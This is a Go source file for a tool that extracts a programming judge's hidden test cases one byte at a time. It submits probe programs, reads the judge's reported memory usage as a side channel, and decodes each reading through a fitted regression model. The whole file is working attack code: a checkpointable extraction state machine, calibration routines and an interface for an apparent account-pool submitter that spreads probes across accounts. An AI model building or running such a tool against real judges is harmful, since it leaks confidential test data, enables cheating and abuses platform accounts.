// Package crawler implements the resumable depth-first traversal that
// reconstructs a problem's hidden test cases one byte at a time through the
// judge's memory side channel.
//
// The Core is deliberately single-threaded: every probe strictly precedes the
// next, and the in-memory state between any two probes is a valid checkpoint.
// Pause is cooperative — the caller's shouldPause predicate is consulted
// before every probe and at every phase boundary, and the Core returns
// cleanly without advancing once it observes a pause request.
package crawler

import (
	"context"
	"fmt"
	"math"

	"github.com/orju/squeeze/internal/regress"
)

// Submitter answers side-channel queries by issuing probe submissions and
// returning the judge's raw memory reading. The Core decodes readings through
// its calibrated model. Implementations: the real account-pool submitter in
// internal/tasks, and scripted harnesses in tests.
type Submitter interface {
	// FoundTestcase records a completed test case. Must be idempotent on
	// (problem, content).
	FoundTestcase(ctx context.Context, testcase []byte) error
	// GetNextChar probes for the next byte after prefix, restricted to
	// values below limit. Decodes to 0 at end of test case.
	GetNextChar(ctx context.Context, prefix []byte, limit int) (int, error)
	// GetPrefixLengthLength probes for the byte-length of the back-jump
	// length. Decodes to -1 when no test cases remain.
	GetPrefixLengthLength(ctx context.Context, prefix []byte) (int, error)
	// GetPrefixLength probes for the byte at position of the back-jump
	// length being assembled (lengthPrefix is the partial value so far).
	GetPrefixLength(ctx context.Context, prefix []byte, lengthPrefix, position int) (int, error)
	// GetNumber probes with a program that encodes number; used only for
	// calibration.
	GetNumber(ctx context.Context, number int) (int, error)
}

// Phase tags the Core's position in the extraction state machine.
type Phase string

const (
	PhaseNeedsPredict              Phase = "NEEDS_PREDICT"
	PhaseFindingNextChar           Phase = "FINDING_NEXT_CHAR"
	PhaseFindingPrefixLengthLength Phase = "FINDING_PREFIX_LENGTH_LENGTH"
	PhaseFindingPrefixLength       Phase = "FINDING_PREFIX_LENGTH"
	PhaseDone                      Phase = "DONE"
)

func validPhase(p Phase) bool {
	switch p {
	case PhaseNeedsPredict, PhaseFindingNextChar, PhaseFindingPrefixLengthLength,
		PhaseFindingPrefixLength, PhaseDone:
		return true
	}
	return false
}

// Checkpoint is the serialisable state of a Core at a safe point. Prefix is
// raw bytes (base64 in JSON). Slope/Intercept are null before calibration.
type Checkpoint struct {
	Phase              Phase    `json:"phase"`
	Prefix             []byte   `json:"prefix"`
	Limit              int      `json:"limit"`
	PrefixLengthLength int      `json:"prefix_length_length"`
	PrefixLength       int      `json:"prefix_length"`
	Position           int      `json:"position"`
	Slope              *float64 `json:"slope"`
	Intercept          *float64 `json:"intercept"`
}

// ProtocolError reports a decoded probe value the state machine cannot
// accept. Fatal to the run; the caller checkpoints and surfaces it.
type ProtocolError struct {
	Probe  string
	Value  int
	Reason string
}

func (e *ProtocolError) Error() string {
	return fmt.Sprintf("crawler: protocol error on %s: decoded %d: %s", e.Probe, e.Value, e.Reason)
}

// Core drives a Submitter through the extraction state machine.
type Core struct {
	sub         Submitter
	shouldPause func() bool
	model       *regress.Model

	phase              Phase
	prefix             []byte
	limit              int
	prefixLengthLength int
	prefixLength       int
	position           int
}

// New creates a Core in the initial state. shouldPause may be nil, meaning
// the run is never paused.
func New(sub Submitter, shouldPause func() bool) *Core {
	c := &Core{sub: sub, shouldPause: shouldPause}
	c.Reset()
	return c
}

// Reset returns the Core to its pristine pre-calibration state.
func (c *Core) Reset() {
	c.phase = PhaseNeedsPredict
	c.prefix = nil
	c.limit = 256
	c.prefixLengthLength = 0
	c.prefixLength = 0
	c.position = 0
	c.model = nil
}

// Load sets the Core's state to exactly the checkpoint. The model is
// rehydrated from slope/intercept without re-accumulating samples.
func (c *Core) Load(cp Checkpoint) error {
	if !validPhase(cp.Phase) {
		return fmt.Errorf("crawler: checkpoint has unknown phase %q", cp.Phase)
	}
	if cp.Phase != PhaseNeedsPredict {
		if cp.Slope == nil || cp.Intercept == nil {
			return fmt.Errorf("crawler: checkpoint in phase %s lacks model coefficients", cp.Phase)
		}
		if !finite(*cp.Slope) || !finite(*cp.Intercept) {
			return fmt.Errorf("crawler: checkpoint in phase %s has non-finite coefficients", cp.Phase)
		}
	}
	c.phase = cp.Phase
	c.prefix = append([]byte(nil), cp.Prefix...)
	c.limit = cp.Limit
	c.prefixLengthLength = cp.PrefixLengthLength
	c.prefixLength = cp.PrefixLength
	c.position = cp.Position
	if cp.Slope != nil && cp.Intercept != nil {
		c.model = regress.Restore(*cp.Slope, *cp.Intercept)
	} else {
		c.model = nil
	}
	return nil
}

// Save returns the full current state as a checkpoint. The prefix is copied
// so later mutation of the Core cannot alias into the snapshot.
func (c *Core) Save() Checkpoint {
	cp := Checkpoint{
		Phase:              c.phase,
		Prefix:             append([]byte(nil), c.prefix...),
		Limit:              c.limit,
		PrefixLengthLength: c.prefixLengthLength,
		PrefixLength:       c.prefixLength,
		Position:           c.position,
	}
	if c.model != nil {
		if slope, intercept, ok := c.model.Coefficients(); ok {
			cp.Slope = &slope
			cp.Intercept = &intercept
		}
	}
	return cp
}

// Phase returns the current phase tag.
func (c *Core) Phase() Phase { return c.phase }

func (c *Core) paused() bool {
	return c.shouldPause != nil && c.shouldPause()
}

// Run executes the state machine until DONE, a pause request, or an error.
// On pause it returns nil without advancing; the live state is then a valid
// checkpoint. On error the caller must Save before persisting the failure so
// the run can resume.
func (c *Core) Run(ctx context.Context) error {
	if c.phase == PhaseNeedsPredict {
		if c.paused() {
			return nil
		}
		paused, err := c.calibrate(ctx)
		if err != nil || paused {
			return err
		}
		c.prefix = nil
		c.limit = 256
		c.phase = PhaseFindingNextChar
	}

	for c.phase != PhaseDone {
		if c.paused() {
			return nil
		}
		switch c.phase {
		case PhaseFindingNextChar:
			for {
				if c.paused() {
					return nil
				}
				ch, err := c.decode(c.sub.GetNextChar(ctx, c.prefix, c.limit))
				if err != nil {
					return err
				}
				if ch == 0 {
					// The submitter may retain the bytes; the live prefix is
					// about to be truncated and regrown by the back-jump.
					tc := append([]byte(nil), c.prefix...)
					if err := c.sub.FoundTestcase(ctx, tc); err != nil {
						return err
					}
					c.phase = PhaseFindingPrefixLengthLength
					break
				}
				if ch < 0 || ch > 255 {
					return &ProtocolError{Probe: "get_next_char", Value: ch, Reason: "next byte outside [0,255]"}
				}
				c.prefix = append(c.prefix, byte(ch))
				c.limit = 256
			}

		case PhaseFindingPrefixLengthLength:
			n, err := c.decode(c.sub.GetPrefixLengthLength(ctx, c.prefix))
			if err != nil {
				return err
			}
			if n == -1 {
				c.phase = PhaseDone
				continue
			}
			if n < -1 {
				return &ProtocolError{Probe: "get_prefix_length_length", Value: n, Reason: "negative length-length"}
			}
			c.prefixLengthLength = n
			c.prefixLength = 0
			c.position = n - 1
			c.phase = PhaseFindingPrefixLength

		case PhaseFindingPrefixLength:
			// Base-256 positional assembly, most-significant byte first.
			// The pause check keeps a partially folded prefixLength and the
			// current position checkpointable mid-loop.
			for c.position >= 0 {
				if c.paused() {
					return nil
				}
				n, err := c.decode(c.sub.GetPrefixLength(ctx, c.prefix, c.prefixLength, c.position))
				if err != nil {
					return err
				}
				if n < 0 || n > 255 {
					return &ProtocolError{Probe: "get_prefix_length", Value: n, Reason: "length byte outside [0,255]"}
				}
				c.prefixLength = c.prefixLength*256 + n
				c.position--
			}
			if c.prefixLength >= len(c.prefix) {
				return &ProtocolError{Probe: "get_prefix_length", Value: c.prefixLength,
					Reason: fmt.Sprintf("back-jump length exceeds prefix of %d bytes", len(c.prefix))}
			}
			c.limit = int(c.prefix[c.prefixLength])
			c.prefix = c.prefix[:c.prefixLength]
			c.phase = PhaseFindingNextChar
		}
	}
	return nil
}

// calibrate samples get_number over the arithmetic progression
// {-1, 63, 127, 191, 255} and fits the model. Returns paused=true when a
// pause request interrupted sampling; the phase stays NEEDS_PREDICT and a
// resumed run recalibrates from scratch.
func (c *Core) calibrate(ctx context.Context) (paused bool, err error) {
	model := regress.New()
	for n := -1; n <= 255; n += 64 {
		if c.paused() {
			return true, nil
		}
		mem, err := c.sub.GetNumber(ctx, n)
		if err != nil {
			return false, err
		}
		model.Add(float64(mem), float64(n))
	}
	if err := model.Fit(); err != nil {
		return false, err
	}
	c.model = model
	return false, nil
}

// decode passes a raw memory reading through the calibrated model. The error
// parameter threads the Submitter's own error through unchanged.
func (c *Core) decode(memory int, err error) (int, error) {
	if err != nil {
		return 0, err
	}
	if c.model == nil {
		return 0, regress.ErrNotFitted
	}
	return c.model.Decode(memory)
}

func finite(f float64) bool {
	return !math.IsNaN(f) && !math.IsInf(f, 0)
}
